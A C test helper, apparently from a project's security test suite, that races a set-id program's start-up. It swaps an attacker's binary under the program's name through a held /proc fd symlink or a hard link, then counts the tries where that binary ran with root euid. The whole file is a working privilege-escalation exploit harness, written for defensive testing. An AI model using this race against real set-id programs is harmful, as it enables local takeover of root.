/* SPDX-License-Identifier: MIT */
/*
 * The attack on a set-id program's hand-over, as an unprivileged user runs
 * it (tests/e2e/suites/secure.sh):
 *
 *   setidrace held     SETID EVIL DIR TRIES
 *   setidrace hardlink SETID EVIL DIR TRIES
 *
 * Each try starts the set-id program, then, after a random delay of up to
 * three milliseconds, swaps the user's own program EVIL in under the name
 * it was started by.  The kernel checks the set-id file at exec; anything
 * that later opens the program by that name gets EVIL, with the set-id
 * program's euid.
 *
 * held: the user holds the set-id file open (fd 9, O_PATH) while root
 * replaces it (an upgrade; the script does that once DIR/ready exists), so
 * its /proc/PID/exe reads "(deleted)"; it is started through the symlink
 * DIR/link -> /proc/self/fd/9, which is then repointed at EVIL.
 * hardlink: (fs.protected_hardlinks=0) DIR/h is a hard link to the set-id
 * file, started by that name, and EVIL is renamed over it.
 *
 * Prints "tries N won M setid K" (M: tries where EVIL ran with euid 0; K:
 * where the set-id program itself ran, as root) and exits 0
 * when every try ran; 2 when the attack could not be set up.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char path_link[4096], path_tmp[4096], path_h[4096], path_evil2[4096];

__attribute__((noreturn)) static void die(const char *what)
{
	fprintf(stderr, "setidrace: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* Point DIR/link at target in one step, as an attacker would. */
static void repoint(const char *target)
{
	unlink(path_tmp);
	if (symlink(target, path_tmp) < 0 || rename(path_tmp, path_link) < 0)
		die("repoint");
}

static void spin_us(long us)
{
	struct timespec a, b;
	clock_gettime(CLOCK_MONOTONIC, &a);
	do
		clock_gettime(CLOCK_MONOTONIC, &b);
	while ((b.tv_sec - a.tv_sec) * 1000000L + (b.tv_nsec - a.tv_nsec) / 1000 < us);
}

int main(int argc, char **argv)
{
	if (argc != 6)
		return fprintf(stderr, "usage: setidrace held|hardlink SETID EVIL DIR TRIES\n"), 2;
	const char *how = argv[1], *setid = argv[2], *evil = argv[3], *dir = argv[4];
	long tries = atol(argv[5]);
	bool held = strcmp(how, "held") == 0;
	snprintf(path_link, sizeof path_link, "%s/link", dir);
	snprintf(path_tmp, sizeof path_tmp, "%s/link.new", dir);
	snprintf(path_h, sizeof path_h, "%s/h", dir);
	snprintf(path_evil2, sizeof path_evil2, "%s/evil2", dir);
	const char *start = held ? path_link : path_h;

	if (held) {
		int fd = open(setid, O_PATH);
		if (fd < 0 || dup2(fd, 9) < 0)
			die(setid);
		struct stat a, b;
		fstat(9, &a);
		char ready[4096];
		snprintf(ready, sizeof ready, "%s/ready", dir);
		close(open(ready, O_CREAT | O_WRONLY, 0644));
		/* wait for the upgrade: the name now another file */
		for (int i = 0; i < 1000 && stat(setid, &b) == 0 && b.st_ino == a.st_ino; i++)
			usleep(10000);
		if (stat(setid, &b) < 0 || b.st_ino == a.st_ino) {
			errno = ETIMEDOUT;
			die("waiting for the set-id file to be replaced");
		}
	}
	srand((unsigned)getpid());
	long won = 0, ran = 0;
	for (long i = 0; i < tries; i++) {
		if (held) {
			repoint("/proc/self/fd/9");
		} else {
			unlink(path_h);
			unlink(path_evil2);
			if (link(setid, path_h) < 0)
				die("link (is fs.protected_hardlinks 0?)");
			if (link(evil, path_evil2) < 0)
				die("link evil");
		}
		int out[2];
		if (pipe(out) < 0)
			die("pipe");
		pid_t pid = fork();
		if (pid < 0)
			die("fork");
		if (pid == 0) {
			dup2(out[1], 1);
			close(out[0]);
			close(out[1]);
			char *av[] = { (char *)"probe", NULL };
			char *ev[] = { (char *)"PATH=/usr/bin:/bin", NULL };
			execve(start, av, ev);
			_exit(127);
		}
		close(out[1]);
		spin_us(rand() % 3000);
		if (held)
			repoint(evil);
		else if (rename(path_evil2, path_h) < 0)
			die("rename");
		char buf[4096];
		size_t n = 0;
		ssize_t r;
		while (n < sizeof buf - 1 && (r = read(out[0], buf + n, sizeof buf - 1 - n)) > 0)
			n += (size_t)r;
		buf[n] = '\0';
		close(out[0]);
		waitpid(pid, NULL, 0);
		if (strstr(buf, "evil euid=0\n"))
			won++;
		else if (strncmp(buf, "libcuda=", 8) == 0 && strstr(buf, "\neuid=0\n"))
			ran++;	/* the set-id program itself, as root */
	}
	printf("tries %ld won %ld setid %ld\n", tries, won, ran);
	return 0;
}
